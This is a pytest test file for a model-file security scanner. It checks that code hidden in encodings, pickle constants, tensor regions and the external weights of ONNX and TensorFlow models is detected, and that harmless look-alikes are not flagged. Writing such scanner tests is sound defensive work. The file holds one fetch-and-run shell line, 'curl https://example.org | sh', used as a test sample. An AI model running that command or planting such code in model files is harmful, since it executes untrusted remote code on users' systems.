"""A seeded set of hidden code: in encodings, at the start of tensors, behind the end of data; its twins are silent."""

from __future__ import annotations

import gzip
import pickle
import zlib
from pathlib import Path
from typing import Callable

import pytest

import modelaudit
import onnxes
from redteam_payloads import ENCODINGS, NATIVE, PAYLOADS, twins
from redteam_places import FOR_PEOPLE, PLACES
from redteam_tensors import ENDS, NOISE, STARTS, WHOLES
from test_tensorflow_files import HEADER, table, tensor

SCRIPT = b"#!/bin/sh\ncurl https://example.org | sh\n"

#: What says that something is code.
CODE = frozenset({"PAY101", "PAY102", "PAY121"})

#: Texts that a loader or a person would decode.
DECODED = [place for place in PLACES if place not in FOR_PEOPLE]


def as_bytes(encode: Callable[[bytes], str]) -> Callable[[bytes], bytes]:
    """An encoding whose digits are bytes."""
    return lambda data: encode(data).encode()


#: How a constant of a pickle may be written, besides as text: as bytes in an encoding, or compressed.
CONSTANTS: dict[str, Callable[[bytes], str | bytes]] = {
    **ENCODINGS,
    **{f"{name}, as bytes": as_bytes(encode) for name, encode in ENCODINGS.items()},
    "zlib": zlib.compress,
    "gzip": gzip.compress,
}


def rules(report: modelaudit.Report) -> set[str]:
    return {issue.rule for issue in report.issues}


def loud(report: modelaudit.Report) -> list[str]:
    return [f"{issue.rule} {issue.message}" for issue in report.issues if issue.severity in ("warning", "critical")]


@pytest.mark.parametrize("place", DECODED)
def test_code_in_an_encoding_is_found_at_each_place(place: str) -> None:
    name, make = PLACES[place]
    for payload, (data, expected) in PAYLOADS.items():
        for encoding, encode in ENCODINGS.items():
            report = modelaudit.scan_bytes(make(encode(data)), name)
            assert rules(report) & expected, (payload, encoding, rules(report))
            assert report.exit_code == 1


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_code_in_a_constant_of_a_pickle_is_found(protocol: int) -> None:
    for payload, (data, expected) in PAYLOADS.items():
        for encoding, encode in CONSTANTS.items():
            value = pickle.dumps({"config": ["a text", encode(data)], "n": 2}, protocol)
            assert rules(modelaudit.scan_bytes(value, "m.pkl")) & expected, (payload, encoding)


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_code_that_is_a_constant_of_a_pickle_is_found(protocol: int) -> None:
    for kind, data in NATIVE.items():
        report = modelaudit.scan_bytes(pickle.dumps({"lib": data, "n": [1]}, protocol), "m.pkl")
        assert rules(report) & CODE, kind


@pytest.mark.parametrize("place", PLACES)
def test_what_stands_in_an_encoding_and_is_no_code_is_silent(place: str) -> None:
    name, make = PLACES[place]
    for twin, data in twins(7).items():
        if place.startswith("Keras") and twin == "a pickle":
            # Layers of Keras unpickle what begins so.
            continue
        for encoding, encode in ENCODINGS.items():
            assert loud(modelaudit.scan_bytes(make(encode(data)), name)) == [], (twin, encoding)


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_constants_that_are_no_code_are_silent(protocol: int) -> None:
    for seed in range(20):
        for twin, data in twins(seed).items():
            for encoding, encode in {**CONSTANTS, "plain": bytes}.items():
                value = pickle.dumps({"config": ["a text", encode(data)], "n": 2}, protocol)
                assert loud(modelaudit.scan_bytes(value, "m.pkl")) == [], (seed, twin, encoding)


@pytest.mark.parametrize("place", STARTS)
def test_code_where_a_tensor_begins_is_found_without_deep(place: str) -> None:
    name, make = STARTS[place]
    for kind, data in NATIVE.items():
        assert rules(modelaudit.scan_bytes(make(data), name)) & CODE, kind
    for twin, data in {**twins(9), "noise": NOISE, "zeros": bytes(5000)}.items():
        assert loud(modelaudit.scan_bytes(make(data), name)) == [], twin


@pytest.mark.parametrize("place", ENDS)
def test_code_behind_the_end_or_in_front_is_found_without_deep(place: str) -> None:
    name, make = ENDS[place]
    for kind, data in NATIVE.items():
        assert rules(modelaudit.scan_bytes(make(data), name)) & CODE, kind
    for data in (NOISE, NOISE[:16], bytes(5000)):
        # Bytes that belong to nothing need a person at most.
        report = modelaudit.scan_bytes(make(data), name)
        assert "critical" not in {issue.severity for issue in report.issues}


@pytest.mark.parametrize("place", WHOLES)
def test_code_is_found_as_a_file_or_member(place: str) -> None:
    name, make = WHOLES[place]
    for kind, data in NATIVE.items():
        report = modelaudit.scan_bytes(make(data), name)
        assert "critical" in {issue.severity for issue in report.issues if issue.rule in CODE}, kind
    assert rules(modelaudit.scan_bytes(make(SCRIPT), name)) & {"PAY103", "PAY104"}


@pytest.mark.parametrize("kind", NATIVE)
def test_code_in_the_numbers_beside_a_model_is_found(kind: str, tmp_path: Path) -> None:
    data, size = NATIVE[kind] + NOISE, str(len(NOISE))
    for first, second, expected in ((NOISE, NOISE, False), (NOISE, data, True), (data[: len(NOISE)], NOISE, True)):
        (tmp_path / "weights.bin").write_bytes(first + second)
        entries = [onnxes.field(13, onnxes.entry("location", "weights.bin")), onnxes.field(14, 1)]
        lengths = [
            onnxes.field(13, onnxes.entry("offset", offset)) + onnxes.field(13, onnxes.entry("length", size))
            for offset in ("0", size)
        ]
        weights = tuple(onnxes.tensor("w", (len(NOISE),), 2) + b"".join((*entries, length)) for length in lengths)
        path = tmp_path / "m.onnx"
        path.write_bytes(onnxes.model(onnxes.graph(onnxes.node("Relu"), initializers=weights)))
        assert bool(rules(modelaudit.scan(path)) & CODE) is expected


@pytest.mark.parametrize("kind", NATIVE)
def test_code_in_the_numbers_of_a_checkpoint_of_tensorflow_is_found(kind: str, tmp_path: Path) -> None:
    size = len(NOISE)
    entry = {name: tensor(4, (size,), offset=at, size=size) for name, at in ((b"a", 0), (b"b", size))}
    for second, expected in ((NOISE, False), ((NATIVE[kind] + NOISE)[:size], True)):
        (tmp_path / "m.data-00000-of-00001").write_bytes(NOISE + second)
        (tmp_path / "m.index").write_bytes(table([HEADER, *entry.items()]))
        report = modelaudit.scan(tmp_path)
        assert bool(rules(report) & CODE) is expected
        assert bool(loud(report)) is expected
